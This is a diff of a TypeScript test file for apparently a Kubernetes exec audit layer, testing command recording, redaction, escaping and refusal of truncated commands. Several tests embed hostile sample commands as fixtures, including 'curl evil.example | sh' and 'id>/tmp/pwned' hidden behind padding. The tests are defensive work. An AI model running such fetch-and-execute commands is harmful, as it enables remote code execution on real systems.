@@ -2,10 +2,31 @@ import { createHash } from "node:crypto";
 import fc from "fast-check";
 import { expect, test } from "vitest";
 import { runs } from "../../base/testing/runs.ts";
+import { chainLine } from "../../debug-link/audit-chain.ts";
 import type { Subject } from "../requests/subject.ts";
-import { askedFields, subjectFields } from "./subject-fields.ts";
+import { redactCommand } from "./redact-command.ts";
+import { askedFields, fitsRecord, subjectFields } from "./subject-fields.ts";
 
 const EXEC: Subject = { verb: "get", group: "", version: "v1", resource: "pods", subresource: "exec", name: "web-1" };
+const COSTLY = [
+  "\x7f",
+  "\u0001",
+  "\u009b",
+  "\u200b",
+  "\u202e",
+  "\u{f0000}",
+  "\u{e0001}",
+  '"',
+  "\\",
+  "\n",
+  "pwd=a@",
+  "é",
+];
+
+/** What is shown as its code, as it was. */
+function unescaped(text: string): string {
+  return text.replaceAll(/\\u([0-9a-f]{4})/g, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)));
+}
 
 test("a command stands with its number of words and a hash that anyone can make", () => {
   const command = ["sh", "-c", "TOKEN=hunter2 ls"];
@@ -38,26 +59,63 @@ test("of a long command that is refused its beginning is kept", () => {
   expect(fourth).toMatch(/^b{100,600}\[cut]$/);
 });
 
-test("property: any command that a query can hold stands in the record of its request to its last word", () => {
-  // Each of these takes more bytes in JSON than another of its length in a query.
-  const unit = fc.constantFrom("a", '"', "\\", "\u0001", "\n", "\u009b", "\u{f0000}", "ä", "€", "😀");
-  const words = fc.array(fc.string({ unit, maxLength: 2_000, size: "max" }), {
-    minLength: 1,
-    maxLength: 20,
-    size: "max",
-  });
-  fc.assert(
-    fc.property(words, (command) => {
-      const parts = command.map((each) => `command=${encodeURIComponent(each)}`);
-      while (parts.join("&").length > 16_384) parts.pop();
-      const kept = command.slice(0, parts.length);
-      expect(subjectFields({ ...EXEC, command: kept }).command).toHaveLength(kept.length);
-      expect(JSON.stringify(subjectFields({ ...EXEC, command: kept }))).not.toContain("[cut]");
-    }),
-    { numRuns: runs(50) },
+test("property: of a request that a session passes on, the record has all; what would be cut is not passed on", () => {
+  const unit = fc.oneof(
+    fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
+    // Each of these takes more bytes in JSON than another of its length in a query.
+    fc.constantFrom(...COSTLY),
   );
+  const text = fc
+    .tuple(fc.string({ unit, maxLength: 40, size: "max" }), fc.nat(6_000))
+    .map(([part, times]) => part.repeat(times).slice(0, 16_000));
+  fc.assert(
+    fc.property(fc.array(text, { minLength: 1, maxLength: 8, size: "max" }), text, (command, container) => {
+      const subject = { ...EXEC, command, container };
+      const record = subjectFields(subject);
+      const isWhole = !JSON.stringify(record).includes("[cut]");
+      expect(fitsRecord(subject)).toBe(isWhole);
+      if (isWhole) expect((record.command as readonly string[]).map(unescaped)).toEqual(redactCommand(command));
+    }),
+    { numRuns: runs(300) },
+  );
+});
+
+test("each character stands whole in the record of the longest command of it that a query can hold, or the command is refused", () => {
+  const character = (code: number): string => String.fromCodePoint(code).toWellFormed();
+  const blocks = Array.from({ length: 0x1100 }, (_, block) =>
+    Array.from({ length: 256 }, (_each, at) => character(block * 256 + at)).join(""),
+  );
+  const alone = Array.from({ length: 256 }, (_, code) => character(code));
+  for (const part of [...blocks, ...alone]) {
+    const word = part.repeat(Math.ceil(16_300 / encodeURIComponent(part).length));
+    const subject = { ...EXEC, command: ["sh", "-c", word, "end"] };
+    if (!fitsRecord(subject)) continue;
+    const { command } = subjectFields(subject) as { readonly command: readonly string[] };
+    if (command.at(-1) !== "end" || unescaped(command[2] ?? "") !== word) expect.fail(encodeURIComponent(part));
+  }
+});
+
+test.each([
+  ["escapes that are longer than in the query", `#${"\x7f".repeat(5_380)}\nid>/tmp/pwned`],
+  ["values of secrets, and the marks in their place", `: ${"pwd=a@".repeat(2_700)}; curl evil.example | sh`],
+])("a command behind %s does not run", (_, script) => {
+  expect(encodeURIComponent(script).replaceAll("%40", "@").replaceAll("%3D", "=").length).toBeLessThan(16_384);
+  expect(fitsRecord({ ...EXEC, command: ["sh", "-c", script] })).toBe(false);
+});
+
+test("a long command of ordinary words is passed on whole", () => {
   const padded = ["sh", "-c", `: ${"a".repeat(12_000)}; curl evil.example | sh`];
+  expect(fitsRecord({ ...EXEC, command: padded })).toBe(true);
   expect(subjectFields({ ...EXEC, command: padded }).command).toEqual(padded);
+});
+
+test("a record that is cut between the halves of a character can be written", () => {
+  for (const lead of ["", "a"]) {
+    const text = lead + "\u{1f600}".repeat(3_000);
+    const fields = askedFields({ ...EXEC, container: text, command: ["sh", text] }, { id: 1 });
+    expect(JSON.stringify(fields)).not.toMatch(/\\ud[89a-f]/);
+    expect(() => chainLine({ records: 0, head: "" }, new Date(0), "denied", fields)).not.toThrow();
+  }
 });
 
 test("what would move a terminal's cursor, hide text or turn it around is shown as its code", () => {
